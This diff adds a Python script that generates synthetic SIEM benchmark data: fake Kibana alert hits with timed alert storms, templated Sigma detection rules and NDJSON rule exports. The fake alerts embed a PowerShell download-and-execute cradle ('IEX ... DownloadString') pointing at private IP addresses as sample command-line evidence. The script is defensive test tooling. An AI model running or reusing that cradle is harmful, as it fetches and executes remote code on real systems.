@@ -0,0 +1,111 @@
+import json
+import os
+import random
+import uuid
+from datetime import datetime, timezone
+
+# Sinh dữ liệu giả cho benchmark: alert Kibana (dạng hit của Elasticsearch), rule Sigma, NDJSON đã convert
+
+RULES = ["Suspicious PowerShell Download", "Mimikatz Command Line", "LSASS Memory Dump", "Encoded Command",
+         "Certutil Download", "Rundll32 No Args", "WMI Persistence", "Scheduled Task Created"]
+PROCS = ["powershell.exe", "cmd.exe", "rundll32.exe", "certutil.exe", "wmic.exe", "schtasks.exe"]
+PARENTS = ["explorer.exe", "winword.exe", "services.exe", "svchost.exe", "wmiprvse.exe"]
+
+
+def iso(ts):
+    return datetime.fromtimestamp(ts, timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")
+
+
+def storm_times(n, start, duration, pattern="steady", seed=1):
+    # steady: rải đều; burst: 80% alert dồn vào 5 đợt ngắn; ramp: mật độ tăng dần tới cuối
+    rnd = random.Random(seed)
+    if pattern == "steady":
+        times = [start + duration * i / max(1, n) for i in range(n)]
+    elif pattern == "burst":
+        centers = [start + duration * (k + 0.5) / 5 for k in range(5)]
+        times = [rnd.choice(centers) + rnd.uniform(0, duration * 0.01) if rnd.random() < 0.8
+                 else start + rnd.uniform(0, duration) for _ in range(n)]
+    elif pattern == "ramp":
+        times = [start + duration * rnd.random() ** 0.5 for _ in range(n)]
+    else:
+        raise ValueError(f"unknown storm pattern: {pattern}")
+    return sorted(min(t, start + duration) for t in times)
+
+
+def alert_source(ts, fp, evidence_bytes, rnd):
+    # fp quyết định rule/user/evidence -> số fingerprint khác nhau = cardinality
+    rule = RULES[fp % len(RULES)]
+    evidence = f"IEX (New-Object Net.WebClient).DownloadString('http://10.0.{fp % 256}.{fp // 256 % 256}/p{fp}.ps1') "
+    evidence = (evidence * (evidence_bytes // len(evidence) + 1))[:evidence_bytes]
+    return {
+        "@timestamp": iso(ts),
+        "kibana.alert.rule.name": rule,
+        "kibana.alert.rule.risk_score": (21, 47, 73, 99)[fp % 4],
+        "user": {"name": f"user{fp % 997}"},
+        "process": {"name": rnd.choice(PROCS), "parent": {"name": rnd.choice(PARENTS)}},
+        "process.command_line": evidence,
+    }
+
+
+def generate_alerts(n, start, duration, pattern="steady", cardinality=100, evidence_bytes=200, seed=1):
+    rnd = random.Random(seed)
+    return [{"_id": uuid.UUID(int=rnd.getrandbits(128)).hex, "_source": alert_source(ts, rnd.randrange(cardinality), evidence_bytes, rnd)}
+            for ts in storm_times(n, start, duration, pattern, seed)]
+
+
+SIGMA_TEMPLATE = """title: {title}
+id: {id}
+status: {status}
+description: Synthetic benchmark rule {n}
+author: bench
+date: 2024/01/01
+tags:
+    - attack.execution
+    - attack.t{tech}
+logsource:
+    category: process_creation
+    product: windows
+detection:
+    selection:
+        Image|endswith: '\\\\{proc}'
+        CommandLine|contains: '{needle}'
+    condition: selection
+falsepositives:
+    - Unknown
+level: {level}
+"""
+
+
+def write_sigma_rules(root, n, per_folder=100, seed=1):
+    # Cây rules/windows/<category>/rule_N.yml giống cấu trúc repo thật
+    rnd = random.Random(seed)
+    paths = []
+    for i in range(n):
+        folder = os.path.join(root, "windows", f"cat_{i // per_folder:03d}")
+        if i % per_folder == 0:
+            os.makedirs(folder, exist_ok=True)
+        path = os.path.join(folder, f"rule_{i}.yml")
+        with open(path, "w", encoding="utf-8") as f:
+            f.write(SIGMA_TEMPLATE.format(
+                title=f"{rnd.choice(RULES)} Variant {i}", id=uuid.UUID(int=rnd.getrandbits(128)),
+                status="deprecated" if i % 10 == 0 else "stable", n=i, tech=1000 + i % 600,
+                proc=rnd.choice(PROCS), needle=f"needle{i}", level=rnd.choice(["low", "medium", "high"])))
+        paths.append(path)
+    return paths
+
+
+def write_ndjson(path, n, query_bytes=1500, seed=1):
+    # Giống output siem_rule_ndjson của pySigma: 1 rule / dòng
+    rnd = random.Random(seed)
+    ids = []
+    with open(path, "w", encoding="utf-8") as f:
+        for i in range(n):
+            rid = str(uuid.UUID(int=rnd.getrandbits(128)))
+            ids.append(rid)
+            f.write(json.dumps({
+                "rule_id": rid, "name": f"Bench Rule {i}", "type": "query", "language": "lucene", "enabled": True,
+                "index": ["winlogbeat-*", "logs-*"], "risk_score": 47, "severity": "medium", "interval": "5m",
+                "from": "now-360s", "tags": ["attack.execution"], "author": ["bench"], "references": [],
+                "query": ("process.command_line:*needle%d* AND " % i * (query_bytes // 30 + 1))[:query_bytes],
+            }) + "\n")
+    return ids